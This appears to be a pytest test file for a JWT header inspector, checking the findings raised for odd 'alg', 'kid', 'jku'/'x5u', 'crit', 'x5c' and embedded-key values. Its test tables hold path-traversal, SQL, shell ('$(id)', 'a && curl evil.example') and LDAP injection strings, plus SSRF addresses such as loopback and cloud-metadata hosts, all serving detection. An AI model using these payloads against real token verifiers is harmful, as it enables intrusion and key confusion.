"""Pitfalls of the header at their boundaries, and the look-alikes that are none."""

import pytest

from debugger.inspection import inspect_token
from debugger.samples import ABSENT, SAMPLE_NOW, altered, with_header
from debugger.samples.key_texts import certificate_of, in_x5c, jwk_set
from debugger.samples.signers import ED25519, ES256, HS256, RS256, RSA_OTHER, Signer, ed25519_key


def report_on(question):
    return inspect_token(question.text, question.key, question.key_format, question.policy)


def found(question):
    """Ids and severities of what is found, infos about the policy left out."""
    return {
        finding.id: str(finding.severity)
        for finding in report_on(question).findings
        if finding.id not in ("policy-not-set", "unverified")
    }


ALG = {
    "none": None,
    "None": "alg-none-variant",
    "NONE": "alg-none-variant",
    "nOnE": "alg-none-variant",
    " none": "alg-none-variant",
    "none\u200b": "alg-none-variant",
    "n\u043ene": "alg-none-variant",
    "ｎｏｎｅ": "alg-none-variant",
    "no ne": "alg-none-variant",
    "nones": "alg-unknown",
    "hs256": "alg-case",
    "Es256": "alg-case",
    "EDDSA": "alg-case",
    "rsa-oaep": "alg-case",
    "HS265": "alg-misspelt",
    "HS-256": "alg-misspelt",
    "H256": "alg-misspelt",
    "SH256": "alg-misspelt",
    "RSAOAEP": "alg-misspelt",
    "HMACSHA256": "alg-misspelt",
    "HmacSHA512": "alg-misspelt",
    "SHA256withRSA": "alg-misspelt",
    "SHA384withECDSA": "alg-misspelt",
    "RSA": "alg-misspelt",
    "ES521": "alg-misspelt",
    "ESP256": "alg-misspelt",
    "Ed25519ph": "alg-misspelt",
    "RS1": "alg-prohibited",
    "HS1": "alg-prohibited",
    "rs1": "alg-prohibited",
    "HS256/64": "alg-prohibited",
    "SHA1withRSA": "alg-prohibited",
    "XX999": "alg-unknown",
    "BLAKE3": "alg-unknown",
    "A128GCM": "alg-unknown",
    "https://www.w3.org/2001/04/xmldsig-more#hmac-sha256": "alg-unknown",
}


@pytest.mark.parametrize(("alg", "name"), ALG.items())
def test_a_name_of_an_algorithm_has_one_finding(alg, name):
    ours = {"alg-unknown", "alg-case", "alg-misspelt", "alg-prohibited", "alg-none-variant"}
    assert set(found(with_header(alg=alg))) & ours == ({name} if name else set())


@pytest.mark.parametrize(
    "alg", ["HS256", "ES256K", "PS512", "Ed448", "ML-DSA-44", "EdDSA", "RSA1_5", "dir", "none"]
)
def test_a_registered_name_is_not_called_unknown(alg):
    ours = {"alg-unknown", "alg-case", "alg-misspelt", "alg-prohibited", "alg-none-variant"}
    assert set(found(with_header(alg=alg))) & ours == set()


@pytest.mark.parametrize("alg", [256, 1.5, True, None, ["HS256"], {"name": "HS256"}, ""])
def test_an_alg_that_is_no_text_is_told_so_and_no_more(alg):
    assert set(found(with_header(alg=alg))) == {"alg-not-text"}


@pytest.mark.parametrize(
    ("edit", "header", "expected"),
    [
        (lambda text: f"{text.rpartition('.')[0]}.", {"alg": "none"}, {"alg-none"}),
        (lambda text: text.rpartition(".")[0], {"alg": "none"}, {"alg-none"}),
        (lambda text: text, {"alg": "none"}, {"alg-none-signed"}),
        (lambda text: f"{text.rpartition('.')[0]}.", {"alg": "NONE"}, {"alg-none-variant"}),
        (lambda text: f"{text.rpartition('.')[0]}.", {}, {"signature-empty"}),
    ],
    ids=["none", "none without its dot", "none with a signature", "NONE", "signature removed"],
)
def test_a_token_without_a_signature_is_scolded_once(edit, header, expected):
    assert set(found(altered(header=header, edit=edit))) == expected


@pytest.mark.parametrize(
    ("algorithms", "expected"),
    [
        (["HS256"], set()),
        (["HS256", "HS384"], set()),
        (["hs256"], {"alg-not-allowed"}),
        (["ES256", "RS256"], {"alg-not-allowed"}),
        (["HS256", "ES256"], {"alg-mac-and-signature-mixed"}),
        (["HS256", "None"], {"alg-none-allowed"}),
        ([" none "], {"alg-not-allowed", "alg-none-allowed"}),
    ],
)
def test_the_list_of_accepted_algorithms(algorithms, expected):
    assert set(found(altered(policy={"algorithms": algorithms}))) == expected


def test_eddsa_and_ed25519_are_two_names_even_for_one_key():
    eddsa = Signer("EdDSA", ed25519_key)
    assert "alg-not-allowed" in found(altered(signer=eddsa, policy={"algorithms": ["Ed25519"]}))
    assert "alg-not-allowed" in found(altered(signer=ED25519, policy={"algorithms": ["EdDSA"]}))


@pytest.mark.parametrize(
    ("audience", "expected"),
    [
        (["https://api.acme.example"], {}),
        (["https://api.acme.example"] * 2, {}),
        (["https://api.acme.example", "b"], {"alg-symmetric-for-many": "warning"}),
    ],
)
def test_one_secret_for_several_parties(audience, expected):
    assert found(altered(claims={"aud": audience})) == expected


def test_an_access_token_with_a_shared_secret_is_warned_of():
    assert "alg-symmetric-for-many" in found(with_header(typ="at+jwt"))


@pytest.mark.parametrize(
    ("typ", "expected"),
    [
        ("JWT", {}),
        ("jwt", {}),
        ("application/jwt", {}),
        ("JOSE", {}),
        ("custom+jwt", {}),
        ("vc+sd-jwt", {}),
        ("entity-statement+jwt", {}),
        ("token", {"typ-odd": "info"}),
        ("JWS", {"typ-odd": "info"}),
        ("", {"typ-odd": "info"}),
        (None, {"typ-not-text": "error"}),
        (["JWT"], {"typ-not-text": "error"}),
        (ABSENT, {"typ-missing": "info"}),
    ],
)
def test_the_type(typ, expected):
    question = with_header(typ=typ)
    odd = {name: severity for name, severity in found(question).items() if name.startswith("typ")}
    assert odd == expected


@pytest.mark.parametrize(
    ("typ", "expected", "ids"),
    [
        ("at+jwt", "at+jwt", set()),
        ("application/at+jwt", "at+jwt", set()),
        ("AT+JWT", "application/at+jwt", set()),
        ("JWT", "at+jwt", {"typ-unexpected"}),
        (ABSENT, "JWT", {"typ-unexpected"}),
    ],
)
def test_the_expected_type(typ, expected, ids):
    question = altered("access-token", header={"typ": typ}, policy={"typ": expected})
    assert {name for name in found(question) if name.startswith("typ")} == ids


KIDS = {
    "2026-11": None,
    "keys/2026/11": None,
    "tenant|42;v2": None,
    "2026-11|eu": None,
    "O'Neil key 1": None,
    "a--b": None,
    "urn:acme:key:1": None,
    "did:web:acme.example#k1": None,
    "a..b": None,
    "key (old)": None,
    "R&D": None,
    "signing;identity": None,
    "/9j/4AAQSkZJRgABAQEASABIAAD+": None,
    "/abc+def/ghi=": None,
    "ключ 1": None,
    "../../dev/null": "kid-path-traversal",
    "..\\..\\key": "kid-path-traversal",
    "%2e%2e/key": "kid-path-traversal",
    "/dev/null": "kid-path-traversal",
    "/etc/passwd": "kid-path-traversal",
    "/tmp/key": "kid-path-traversal",
    "/public.css": "kid-path-traversal",
    "/a/b": "kid-path-traversal",
    "C:\\keys\\a": "kid-path-traversal",
    "c:/keys/a": "kid-path-traversal",
    "file:///etc/hosts": "kid-path-traversal",
    "a\0b": "kid-path-traversal",
    "x' OR '1'='1": "kid-sql",
    "x'; DROP TABLE keys": "kid-sql",
    "x' /* */": "kid-sql",
    'x" and 1=1': "kid-sql",
    "0 union select 1": "kid-sql",
    "`id`": "kid-command",
    "$(id)": "kid-command",
    "a;cat x": "kid-command",
    "a | sh": "kid-command",
    "a && curl evil.example": "kid-command",
    "*)(uid=*": "kid-ldap",
    "a)(|(uid=*": "kid-ldap",
    "http://evil.example/k": "kid-url",
    "HTTPS://evil.example/k": "kid-url",
    "a\nb": "kid-control",
    "a\u200bb": "kid-control",
    "a\u202eb": "kid-control",
}


@pytest.mark.parametrize(("kid", "name"), KIDS.items(), ids=lambda value: ascii(value))
def test_what_a_kid_may_be(kid, name):
    assert set(found(with_header(kid=kid))) == ({name} if name else set())


@pytest.mark.parametrize("kid", [7, None, True, [], {}, ""])
def test_a_kid_is_a_text(kid):
    assert set(found(with_header(kid=kid))) == {"kid-not-text"}


def test_a_kid_of_a_credential_may_be_an_address():
    assert "kid-url" not in found(altered("vc", header={"kid": "https://acme.example/keys/1"}))


A, B = {"kid": "2026-11", **RS256.jwk}, {"kid": "2026-10", **RSA_OTHER.jwk}
E = {"kid": "2026-11", **ES256.jwk}
SETS = {
    "the key is there": ([A, B], {}, set()),
    "another letter case": ([{**A, "kid": "2026-11 "}, B], {}, {"kid-not-in-set"}),
    "rotated": ([B], {}, {"kid-not-in-set"}),
    "a key without a name": ([RS256.jwk], {}, set()),
    "same name, other type": ([A, E], {}, set()),
    "same name, same type": ([A, {**B, "kid": "2026-11"}], {}, {"kid-ambiguous"}),
    "no kid, one of the type": ([A, {**E, "kid": "e"}], {"kid": ABSENT}, set()),
    "no kid, two of the type": ([A, B], {"kid": ABSENT}, {"kid-missing"}),
    "two others of one name": ([A, B, {**E, "kid": "2026-10"}], {}, {"jwks-duplicate-kid"}),
}


@pytest.mark.parametrize(("keys", "header", "expected"), SETS.values(), ids=SETS)
def test_names_of_keys_in_a_set(keys, header, expected):
    assert set(found(altered("access-token", header=header, key=jwk_set(*keys)))) == expected


def test_a_key_given_alone_needs_no_name():
    question = altered("access-token", key=RS256.key_text)
    assert found(question) == {}


ADDRESSES = {
    "https://login.acme.example/jwks": {"jku-present": "warning"},
    "https://keys.login.acme.example/jwks": {"jku-present": "warning"},
    "https://login.acme.example/u@v/jwks": {"jku-present": "warning"},
    "https://LOGIN.acme.example/jwks": {"jku-present": "warning"},
    "https://login.acme.example.evil.example/": {"jku-foreign-host": "error"},
    "https://evil-login.acme.example.net/": {"jku-foreign-host": "error"},
    "https://xlogin.acme.example/": {"jku-foreign-host": "error"},
    "http://login.acme.example/jwks": {"jku-not-https": "error"},
    "file:///etc/passwd": {"jku-not-https": "error"},
    "jwks.json": {"jku-not-https": "error"},
    "https://127.0.0.1/": {"jku-internal-host": "error"},
    "https://2130706433/": {"jku-internal-host": "error"},
    "https://0x7f000001/": {"jku-internal-host": "error"},
    "https://[::1]/": {"jku-internal-host": "error"},
    "https://10.1.2.3/": {"jku-internal-host": "error"},
    "https://keys.internal/": {"jku-internal-host": "error"},
    "http://localhost/": {"jku-internal-host": "error"},
    "https://metadata.google.internal/": {"jku-internal-host": "error"},
    "https://login.acme.example@evil.example/": {"jku-userinfo": "error"},
    "https://login.acme.example\\@evil.example/": {"jku-userinfo": "error"},
    "https://login.acme.example/out?to=https://evil.example": {"jku-userinfo": "error"},
    "https://login.acme.example/out?to=https%3A%2F%2Fevil.example": {"jku-userinfo": "error"},
    "https://login.acme.example/jwks?tenant=a": {"jku-present": "warning"},
}


@pytest.mark.parametrize(("address", "expected"), ADDRESSES.items())
def test_addresses_of_keys(address, expected):
    assert found(with_header("access-token", jku=address)) == expected
    renamed = {name.replace("jku-present", "x5u-present"): it for name, it in expected.items()}
    assert found(with_header("access-token", x5u=address)) == renamed


def test_what_is_wrong_with_one_address_says_nothing_about_the_other():
    own = "https://login.acme.example/jwks"
    question = with_header("access-token", jku="https://evil.example/", x5u=own)
    assert found(question) == {"jku-foreign-host": "error", "x5u-present": "warning"}


@pytest.mark.parametrize(
    ("crit", "more", "expected"),
    [
        (["tenant"], {"tenant": 1}, {"crit-unknown"}),
        (["exp"], {"exp": SAMPLE_NOW + 60}, {"crit-unknown"}),
        ([], {}, {"crit-empty"}),
        ("tenant", {"tenant": 1}, {"crit-malformed"}),
        ({"tenant": 1}, {"tenant": 1}, {"crit-malformed"}),
        (["tenant", "tenant"], {"tenant": 1}, {"crit-malformed"}),
        (["tenant", 1], {"tenant": 1}, {"crit-malformed"}),
        ([""], {}, {"crit-malformed"}),
        (["alg"], {}, {"crit-registered"}),
        (["kid"], {}, {"crit-registered"}),
        (["tenant"], {}, {"crit-absent-member"}),
        (["b64"], {"b64": True}, set()),
        (None, {}, {"crit-malformed"}),
    ],
)
def test_critical_extensions(crit, more, expected):
    assert set(found(with_header(crit=crit, **more))) == expected


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ({"b64": True}, {"b64-not-critical": "warning"}),
        ({"b64": False}, {"b64-not-critical": "error", "b64-false-in-jwt": "error"}),
        ({"b64": "false", "crit": ["b64"]}, {"b64-not-boolean": "error"}),
        ({"b64": 0}, {"b64-not-boolean": "error"}),
    ],
)
def test_the_unencoded_payload(header, expected):
    assert found(with_header(**header)) == expected


LEAF = in_x5c(certificate_of(RS256))
STRANGER = in_x5c(certificate_of(RSA_OTHER, "stranger.example"))


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ({"x5c": [LEAF]}, {"embedded-x5c": "warning"}),
        ({"x5c": [LEAF, LEAF]}, {"embedded-x5c": "warning"}),
        ({"x5c": [LEAF, STRANGER]}, {"embedded-x5c": "warning", "x5c-order": "error"}),
        (
            {"x5c": [LEAF.replace("+", "-").replace("/", "_")]},
            {"embedded-x5c": "warning", "x5c-encoding": "error"},
        ),
        ({"x5c": [certificate_of(RS256)]}, {"embedded-x5c": "warning", "x5c-encoding": "error"}),
        ({"x5c": ["AAAA"]}, {"embedded-x5c": "warning", "x5c-encoding": "error"}),
        ({"x5t": "hKUWhBuneltGSN4s0N_LMOpG27Q"}, {"x5t-sha1": "info"}),
        (
            {"x5c": [LEAF], "x5t": "hKUWhBuneltGSN4s0N_LMOpG27Q"},
            {"embedded-x5c": "warning", "x5t-mismatch": "error"},
        ),
    ],
    ids=["one", "self-issued", "order", "base64url", "PEM", "no certificate", "x5t", "other x5t"],
)
def test_certificates_in_the_header(header, expected):
    assert found(with_header("access-token", **header)) == expected


def test_a_chain_that_alone_vouches_for_the_token_is_an_error():
    question = altered("access-token", header={"x5c": [LEAF]}, key=None)
    assert found(question)["embedded-x5c"] == "error"
    assert report_on(question).verdict == "unverified"


def test_a_certificate_given_as_key_has_its_thumbprint():
    pem = certificate_of(RS256)
    certificate = report_on(altered("access-token", key=pem)).verification.key.certificate
    right = {"x5t#S256": certificate.thumbprint_sha256}
    assert found(altered("access-token", header=right, key=pem)) == {}
    wrong = {"x5t#S256": certificate.thumbprint_sha1}
    assert found(altered("access-token", header=wrong, key=pem)) == {"x5t-mismatch": "error"}
    unknown = found(altered("access-token", header=wrong))
    assert unknown == {}


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ({"jwk": ES256.jwk}, {"embedded-jwk": "error"}),
        ({"jwk": {"kty": "oct", "k": "c2VjcmV0"}}, {"embedded-jwk-private": "error"}),
        ({"jwk": ES256.jwk, "typ": "openid4vci-proof+jwt"}, {}),
        ({"jwk": "a text"}, {"header-member-odd-type": "error"}),
    ],
    ids=["public", "private", "a proof", "a text"],
)
def test_a_key_in_the_header(header, expected):
    assert found(altered(signer=ES256, header=header)) == expected


@pytest.mark.parametrize(
    ("header", "claims", "expected"),
    [
        ({"iss": "https://login.acme.example"}, {}, {}),
        ({"iss": "https://login.acme.example/"}, {}, {"header-claims-differ": "error"}),
        ({"aud": ["https://api.acme.example"]}, {}, {}),
        ({"aud": ["https://api.other.example"]}, {}, {"header-claims-differ": "error"}),
        ({"exp": SAMPLE_NOW + 60}, {}, {}),
        ({"exp": SAMPLE_NOW + 60}, {"exp": ABSENT}, {"header-has-exp": "warning"}),
        ({}, {"alg": "HS256"}, {"payload-has-alg": "info"}),
        ({}, {"typ": "JWT"}, {"payload-has-alg": "info"}),
        ({}, {"typ": "Bearer"}, {}),
        ({"api_key": "0f4b1c8d9e7a4b2f"}, {}, {"header-secret": "error"}),
        ({"note": "postgres://app:hunter22@db/app"}, {}, {"header-secret": "error"}),
        ({"nonce": "AKIAIOSFODNN7EXAMPLE"}, {}, {}),
        ({"zip": "DEF"}, {}, {"zip-in-jws": "warning"}),
        ({"cty": "JWT"}, {}, {"cty-not-nested": "warning"}),
        ({"cty": "json"}, {}, {}),
        ({"x5c": "MII"}, {}, {"header-member-odd-type": "error"}),
    ],
)
def test_members_in_the_wrong_half_or_of_the_wrong_type(header, claims, expected):
    assert found(altered(header=header, claims=claims)) == expected


def test_the_header_of_a_load_balancer_has_its_times():
    header = {"signer": "arn:aws:elasticloadbalancing:eu-1:1:loadbalancer/app/a/b", "client": "c"}
    question = altered(header={**header, "exp": SAMPLE_NOW + 60}, claims={"exp": ABSENT})
    assert "header-has-exp" not in found(question)


@pytest.mark.parametrize(
    ("key", "severity"),
    [(None, "warning"), (RSA_OTHER.key_text, "error"), (RS256.key_text, None)],
    ids=["no key", "fails", "fits"],
)
def test_a_token_for_microsoft_graph(key, severity):
    question = altered("entra", header={"nonce": "abcdef"}, key=key)
    assert found(question).get("entra-nonce-header") == severity
    assert "signature-mismatch" not in found(question)


def test_a_nonce_in_the_header_of_other_issuers_is_nothing():
    assert found(altered(header={"nonce": "abcdef"}, signer=HS256)) == {}
